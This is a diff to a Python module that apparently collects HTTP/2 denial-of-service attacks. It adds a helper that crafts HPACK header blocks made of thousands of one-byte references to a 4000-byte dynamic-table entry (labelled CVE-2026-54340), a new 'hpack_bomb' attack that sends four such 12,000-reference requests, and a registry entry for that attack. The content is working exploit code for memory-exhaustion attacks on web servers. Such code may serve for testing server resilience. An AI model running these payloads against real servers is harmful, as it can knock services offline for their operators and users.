@@ -287,20 +287,33 @@ def made_you_reset(a):
     return b"".join(out)
 
 
-def unfinished_requests(a):
-    """HPACK state amplification (CVE-2026-54340): requests that never end
-    (no END_STREAM), each a header block of 1-byte references to a 4000-byte
-    entry of the dynamic table, whose decoded fields the server keeps."""
+def hpack_block(a, refs, end_stream):
+    """A request whose header block holds `refs` 1-byte references to a
+    4000-byte entry of the dynamic table (HPACK state amplification,
+    CVE-2026-54340): each a whole field for the server to decode."""
     first = not hasattr(a, "sid")
     if first:
         a.sid = 1
     block = (b"\x82\x86\x84\x01\x01x"  # GET, http, /, :authority x (static table)
              + (hpack.Encoder().encode([("x-big", "a" * 4000)], huffman=False) if first else b"")
-             + b"\xbe" * 12000)            # 0x80 | 62: the newest dynamic entry
+             + b"\xbe" * refs)             # 0x80 | 62: the newest dynamic entry
     hf = HeadersFrame(a.sid, block)
     hf.flags.add("END_HEADERS")
+    if end_stream:
+        hf.flags.add("END_STREAM")
     a.sid += 2
     return hf.serialize()
+
+
+def unfinished_requests(a):
+    """Requests that never end (no END_STREAM), each with as many
+    references as a block may hold: the server keeps their decoded fields."""
+    return hpack_block(a, 90, end_stream=False)
+
+
+def hpack_bomb(a):
+    """Whole requests, each a block of 12,000 references."""
+    return b"".join(hpack_block(a, 12000, end_stream=True) for _ in range(4))
 
 
 ATTACKS = {
@@ -315,6 +328,7 @@ ATTACKS = {
     "data_dribble": (data_dribble, "control_frames"),
     "made_you_reset": (made_you_reset, "control_frames"),
     "unfinished_requests": (unfinished_requests, "unfinished_requests"),
+    "hpack_bomb": (hpack_bomb, "header_block"),
 }
 
 
